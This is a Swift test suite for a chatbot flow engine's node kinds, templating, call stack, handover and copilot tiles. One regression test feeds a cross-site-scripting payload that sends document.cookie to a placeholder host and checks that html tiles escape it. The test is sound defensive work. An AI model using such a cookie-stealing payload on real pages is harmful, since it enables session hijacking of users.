import ParleyEngine
import ParleyFlows
import Testing

@Suite struct NodeKindTests {
    @Test func sayRendersTextAndTypedData() throws {
        var chat = try TestChat(
            """
            flow: greet
            context: { count: 2, items: [a, b] }
            nodes:
              hello:
                say: "Hi {{profile.firstName || 'there'}}, you have {{context.count}} items: {{context.items}}."
                next: data
              data:
                say:
                  text: plain
                  data: { count: "{{context.count}}", label: "n={{context.count}}", nested: ["{{context.items}}", "{{context.missing}}"], fixed: 1.5 }
            """,
            profile: ["firstName": "Ada"]
        )
        let turn = try chat.send("hi")
        #expect(turn.outputs.map(\.text) == ["Hi Ada, you have 2 items: [\"a\",\"b\"].", "plain"])
        #expect(turn.outputs[1].data == ["count": 2, "label": "n=2", "nested": [["a", "b"], nil], "fixed": 1.5])
        #expect(turn.trace.map(\.outcome) == ["next", "done"])
        #expect(turn.trace[1].notes.contains { $0.level == "warning" && $0.message.contains("context.missing") })
    }

    @Test func templatesThatFailRenderEmptyWithAWarning() throws {
        var chat = try TestChat(
            """
            flow: t
            nodes:
              a:
                say: "[{{context.nothing}}][{{context.nothing.deeper}}][{{ null }}][{{ 0.1 + 0.2 }}][{{ 1e21 }}][{{ true }}]"
            """
        )
        let turn = try chat.send("hi")
        #expect(turn.outputs.first?.text == "[][][][0.30000000000000004][1e+21][true]")
        let warnings = turn.trace[0].notes.map(\.message)
        #expect(warnings.count == 2)
        #expect(warnings[0] == "{{context.nothing}} is undefined")
        #expect(warnings[1].hasPrefix("{{context.nothing.deeper}} failed: TypeError"))
    }

    @Test func nativePathsMatchJavaScript() throws {
        // `(expr)` is not a plain path, so it always goes to JavaScript; both must render alike.
        let paths = [
            "context.s", "context.n", "context.f", "context.b", "context.z", "context.o", "context.o.k", "context.a", "cc.s", "profile.p",
            "input.text", "ci.data.x",
        ]
        let lines = paths.map { "{{\($0)}}|{{(\($0))}}" }.joined(separator: "\\n")
        var chat = try TestChat(
            """
            flow: t
            context: { s: text, n: 42, f: 0.000001, b: false, z: null, o: { k: [1, 2.5] }, a: [x, { y: 1 }] }
            nodes:
              a:
                say: "\(lines)"
            """,
            profile: ["p": 1e-7]
        )
        let text = try #require(try chat.send("hello", data: ["x": 3]).outputs.first?.text)
        for line in text.split(separator: "\n", omittingEmptySubsequences: false) {
            let halves = line.split(separator: "|", omittingEmptySubsequences: false)
            #expect(halves.count == 2 && halves[0] == halves[1], "\(line)")
        }
        #expect(text.hasPrefix("text|text\n42|42\n0.000001|0.000001\nfalse|false\n|\n"))
    }

    @Test func questionStoresTheTypedAnswerAndContinues() throws {
        var chat = try TestChat(
            """
            flow: q
            nodes:
              ask:
                question: { text: "Your name?", type: text, store: context.name, reprompt: "Please type your name." }
                next: greet
              greet:
                say: "Hello {{context.name}} ({{input.result}}, asked at {{input.activeQuestion.nodeId}})"
            """
        )
        #expect(try chat.texts("hi") == ["Your name?"])
        #expect(try chat.texts("   ") == ["Please type your name."])
        let answer = try chat.send("  Ada  ")
        #expect(answer.outputs.map(\.text) == ["Hello Ada (Ada, asked at ask)"])
        #expect(answer.trace.map(\.outcome) == ["valid", "done"])
        #expect(chat.context["name"] == "Ada")
        #expect(answer.session.position == nil)
        // The flow ended: the next input starts over.
        #expect(try chat.texts("again") == ["Your name?"])
    }

    @Test func questionWithoutRepromptAsksAgainWithItsData() throws {
        var chat = try TestChat(
            """
            flow: q
            nodes:
              ask:
                question: { text: "Pick", type: data, data: { choices: [a, b] } }
                next: done
              done:
                say: "Got {{input.result.choice}}"
            """
        )
        _ = try chat.send("hi")
        let again = try chat.send("text only")
        #expect(again.outputs == [Output(text: "Pick", data: ["choices": ["a", "b"]])])
        #expect(try chat.texts("", data: ["choice": "b"]) == ["Got b"])
    }

    @Test func maxAttemptsGoesToOnFail() throws {
        var chat = try TestChat(
            """
            flow: q
            nodes:
              ask:
                question: { text: "A number?", type: number, reprompt: "Digits please ({{input.activeQuestion.attempts}} wrong so far).", maxAttempts: 3, onFail: agent }
                next: ok
              ok:
                say: "ok"
              agent:
                say: "Let me get someone."
            """
        )
        #expect(try chat.texts("hi") == ["A number?"])
        #expect(try chat.texts("x") == ["Digits please (0 wrong so far)."])
        #expect(try chat.texts("y") == ["Digits please (1 wrong so far)."])
        let failed = try chat.send("z")
        #expect(failed.outputs.map(\.text) == ["Let me get someone."])
        #expect(failed.trace.map(\.outcome) == ["failed", "done"])
        #expect(failed.session.position == nil)
    }

    @Test func conditionBranches() throws {
        let flow = """
            flow: c
            nodes:
              ask:
                question: { text: "n?", type: number, store: context.n }
                next: check
              check:
                condition: context.n > 10
                then: big
                else: small
              big:
                say: big
              small:
                condition: context.n === 0
                then: zero
                next: fallthrough
              zero:
                say: zero
              fallthrough:
                say: small
            """
        for (answer, expected) in [("11", "big"), ("3", "small"), ("0", "zero")] {
            var chat = try TestChat(flow)
            _ = try chat.send("hi")
            let turn = try chat.send(answer)
            #expect(turn.outputs.map(\.text) == [expected], "answer \(answer)")
        }
    }

    @Test func switchComparesAsStrings() throws {
        let flow = """
            flow: s
            nodes:
              ask:
                question: { text: "?", type: any, store: context.v }
                next: pick
              pick:
                switch:
                  value: "isNaN(Number(context.v)) ? context.v : Number(context.v) * 2"
                  cases: { "4": four, "true": yes, "hello": hi }
                  default: other
              four:
                say: four
              yes:
                say: "yes"
              hi:
                say: hi
              other:
                say: other
            """
        for (answer, expected) in [("2", "four"), ("hello", "hi"), ("nothing", "other")] {
            var chat = try TestChat(flow)
            _ = try chat.send("go")
            #expect(try chat.texts(answer) == [expected], "answer \(answer)")
        }
        var noDefault = try TestChat(
            """
            flow: s
            context: { flag: true }
            nodes:
              pick:
                switch: { value: context.flag, cases: { "true": t } }
                next: n
              t:
                say: t
              n:
                say: n
            """
        )
        #expect(try noDefault.texts("x") == ["t"])
    }

    @Test func setKeepsTypesOfSingleExpressions() throws {
        var chat = try TestChat(
            """
            flow: s
            context: { n: 1, gone: 1 }
            nodes:
              a:
                set:
                  context.count: "{{context.n + 1}}"
                  context.text: "n is {{context.n}}"
                  context.flag: "{{ context.n === 1 }}"
                  context.object: "{{ ({a: [1, null]}) }}"
                  context.deep.path.here: 3
                  profile.name: "{{input.text}}"
                  context.gone: "{{context.missing}}"
                  context.literal: [1, "x{{context.n}}"]
                next: b
              b:
                set:
                  context.count: "{{context.count * 10}}"
            """
        )
        let turn = try chat.send("Ada")
        #expect(
            chat.context == [
                "n": 1, "count": 20, "text": "n is 1", "flag": true, "object": ["a": [1, nil]], "deep": ["path": ["here": 3]],
                "literal": [1, "x1"],
            ]
        )
        #expect(chat.profile == ["name": "Ada"])
        #expect(turn.trace[0].notes.contains { $0.message.contains("context.gone") })
    }

    @Test func gotoMovesTheEntryPoint() throws {
        var chat = try TestChat(
            """
            flow: main
            nodes:
              a:
                say: main
                next: jump
              jump:
                goto: other
            """,
            """
            flow: other
            context: { fromOther: yes }
            nodes:
              start:
                say: "other start"
                next: second
              second:
                say: "other second"
              unused:
                say: x
            """
        )
        let first = try chat.send("hi")
        #expect(first.outputs.map(\.text) == ["main", "other start", "other second"])
        #expect(first.trace.map(\.outcome) == ["next", "jumped", "next", "done"])
        #expect(first.session.flow == "other")
        #expect(chat.context["fromOther"] == "yes")
        #expect(try chat.texts("again") == ["other start", "other second"])
    }

    @Test func gotoToANamedNode() throws {
        var chat = try TestChat(
            """
            flow: main
            nodes:
              jump:
                goto: { flow: other, node: second }
            """,
            """
            flow: other
            nodes:
              first:
                say: first
                next: second
              second:
                say: second
            """
        )
        #expect(try chat.texts("hi") == ["second"])
    }

    @Test func executeReturnsAndKeepsItsCallStackAcrossQuestions() throws {
        var chat = try TestChat(
            """
            flow: main
            nodes:
              call:
                execute: ask-name
                next: after
              after:
                say: "Back in main with {{context.name}}"
            """,
            """
            flow: ask-name
            nodes:
              ask:
                question: { text: "Name?", type: text, store: context.name }
                next: thanks
              thanks:
                say: "Thanks"
            """
        )
        let asked = try chat.send("hi")
        #expect(asked.outputs.map(\.text) == ["Name?"])
        #expect(asked.session.callStack == [NodeAddress(flow: "main", node: "call")])
        #expect(asked.session.flow == "main")
        let answered = try chat.send("Ada")
        #expect(answered.outputs.map(\.text) == ["Thanks", "Back in main with Ada"])
        #expect(answered.trace.map(\.outcome) == ["valid", "returned", "done"])
        #expect(answered.session.callStack.isEmpty)
    }

    @Test func hopGuardStopsLongChains() throws {
        var flows = ["flow: f0\nnodes:\n  a:\n    say: start\n    next: b\n  b:\n    execute: f1\n"]
        for index in 1...5 {
            flows.append("flow: f\(index)\nnodes:\n  a:\n    say: in \(index)\n    next: b\n  b:\n    execute: f\(index + 1)\n")
        }
        flows.append("flow: f6\nnodes:\n  a:\n    say: deepest\n")
        var chat = try TestChat(
            flows[0],
            flows[1],
            flows[2],
            flows[3],
            flows[4],
            flows[5],
            flows[6]
        )
        let turn = try chat.send("go")
        #expect(turn.outputs.map(\.text) == ["start", "in 1", "in 2", "in 3", "in 4"])
        guard case .error(let error) = try #require(turn.events.last) else {
            Issue.record("expected an error event, got \(turn.events)")
            return
        }
        #expect(error.message == "more than 4 goto/execute hops without input")
        #expect(error.address == NodeAddress(flow: "f4", node: "b"))
        #expect(turn.session.callStack.isEmpty)
        #expect(turn.session.position == nil)
    }

    @Test func waitHoldsThePosition() throws {
        var chat = try TestChat(
            """
            flow: w
            nodes:
              a:
                say: "before"
                next: pause
              pause:
                wait: {}
                next: after
              after:
                say: "after {{input.text}}"
            """
        )
        let waiting = try chat.send("hi")
        #expect(waiting.outputs.map(\.text) == ["before"])
        #expect(waiting.session.position == .wait(NodeAddress(flow: "w", node: "pause")))
        let resumed = try chat.send("more")
        #expect(resumed.outputs.map(\.text) == ["after more"])
        #expect(resumed.trace.map(\.outcome) == ["resumed", "done"])
    }

    @Test func endEmitsEndedAndResets() throws {
        var chat = try TestChat(
            """
            flow: e
            nodes:
              ask:
                question: { text: "Continue?", type: yesNo }
                next: check
              check:
                condition: input.result
                then: bye
                else: ask2
              bye:
                say: bye
                next: stop
              stop:
                end: {}
              ask2:
                question: { text: "Sure?", type: yesNo }
            """
        )
        _ = try chat.send("hi")
        let ended = try chat.send("yes")
        #expect(ended.outputs.map(\.text) == ["bye"])
        #expect(ended.events == [.ended(NodeAddress(flow: "e", node: "stop"))])
        #expect(ended.session.position == nil)
        #expect(try chat.texts("hi again") == ["Continue?"])
    }

    @Test func handoverPausesUntilItEnds() throws {
        var chat = try TestChat(
            """
            flow: h
            nodes:
              agent:
                handover: { text: "Connecting you.", data: { queue: "{{context.queue}}" } }
                next: back
              back:
                say: "Welcome back ({{input.handover.status}})."
            """
        )
        chat.conversation.profile = [:]
        let handed = try chat.send("help")
        #expect(handed.outputs.map(\.text) == ["Connecting you."])
        #expect(handed.events == [.handover(HandoverRequest(text: "Connecting you.", data: [:], address: NodeAddress(flow: "h", node: "agent")))])
        #expect(handed.session.isHandedOver)
        let ignored = try chat.send("are you there?")
        #expect(ignored.outputs.isEmpty && ignored.events.isEmpty)
        #expect(ignored.trace.map(\.outcome) == ["handedOver:ignored"])
        #expect(ignored.session.isHandedOver)
        let back = try chat.endHandover(.cancelled)
        #expect(back.outputs.map(\.text) == ["Welcome back (cancelled)."])
        #expect(!back.session.isHandedOver)
    }

    @Test func copilotEmitsTileUpdates() throws {
        var chat = try TestChat(
            """
            flow: c
            context: { score: 0.8 }
            nodes:
              tile:
                copilot: { tile: mood, type: sentiment, text: "Mood {{context.score}}", data: { score: "{{context.score}}" } }
                next: grid
              grid:
                copilot: { type: setGrid, grid: { grid: { columns: 2, rows: 1, gap: 4 }, tiles: { mood: { x: 1, y: 1, rows: 1, columns: 1 } } } }
            """
        )
        let turn = try chat.send("hello")
        #expect(turn.outputs.isEmpty)
        #expect(turn.events.count == 2)
        #expect(turn.events.first == .copilot(TileUpdate(tile: "mood", type: "sentiment", fields: ["text": "Mood 0.8", "data": ["score": 0.8]])))
        guard case .copilot(let grid) = turn.events[1] else {
            Issue.record("expected a copilot event")
            return
        }
        #expect(grid.tile == nil && grid.type == "setGrid")
    }

    /// Issue 25: a user's `<script>` in `{{input.text}}` ran inside an html tile. Values are escaped in `html`;
    /// `{{{ }}}` inserts a trusted value as it is; other fields are unchanged.
    @Test func htmlTilesEscapeTemplateValues() throws {
        var chat = try TestChat(
            """
            flow: c
            context: { badge: "<b>VIP</b>" }
            nodes:
              tile:
                copilot:
                  tile: note
                  type: html
                  html: "<p title='{{input.text}}'>{{input.text}}</p>{{{context.badge}}}<i>{{ context.badge }}</i>"
                  text: "{{input.text}}"
                next: whole
              whole:
                copilot: { tile: whole, type: html, html: "{{input.text}}" }
            """
        )
        let turn = try chat.send("<script>fetch('http://127.0.0.1:9/steal?c=' + document.cookie)</script> & \"quotes\"")
        guard case .copilot(let note) = turn.events.first, case .copilot(let whole) = turn.events.last else {
            Issue.record("expected copilot events: \(turn.events)")
            return
        }
        let escaped = "&lt;script&gt;fetch(&#39;http://127.0.0.1:9/steal?c=&#39; + document.cookie)&lt;/script&gt; &amp; &quot;quotes&quot;"
        #expect(note.fields["html"] == .string("<p title='\(escaped)'>\(escaped)</p><b>VIP</b><i>&lt;b&gt;VIP&lt;/b&gt;</i>"))
        #expect(note.fields["text"] == .string("<script>fetch('http://127.0.0.1:9/steal?c=' + document.cookie)</script> & \"quotes\""))
        // A whole-field placeholder is text too in html (elsewhere it keeps the value's JSON type).
        #expect(whole.fields["html"] == .string(escaped))
    }

    @Test func maxStepsPerTurnEndsTheTurn() throws {
        var chat = try TestChat(
            """
            flow: m
            nodes:
              a: { say: "1", next: b }
              b: { say: "2", next: c }
              c: { say: "3", next: d }
              d: { say: "4" }
            """,
            configuration: EngineConfiguration(maxStepsPerTurn: 3)
        )
        let turn = try chat.send("go")
        #expect(turn.outputs.map(\.text) == ["1", "2", "3"])
        #expect(
            turn.events == [
                .error(TurnError(message: "the turn ran more than 3 nodes (maxStepsPerTurn)", address: NodeAddress(flow: "m", node: "d")))
            ]
        )
        #expect(turn.trace.count == 4)
    }

    @Test func sessionsPinnedToOtherFlowsAreRejected() throws {
        let flows = try loadFlows(["flow: a\nnodes:\n  x:\n    say: hi\n"])
        let other = try loadFlows(["flow: a\nnodes:\n  x:\n    say: hello\n"])
        let session = try Engine(flows: other).startSession(flow: "a")
        let input = Input(text: "hi", userId: "u", sessionId: "s", currentTime: "2025-01-01T00:00:00Z")
        #expect(throws: EngineError.self) { try Engine(flows: flows).run(input, session: session, profile: [:]) }
        #expect(throws: EngineError.self) { try Engine(flows: flows).startSession(flow: "missing") }
    }
}
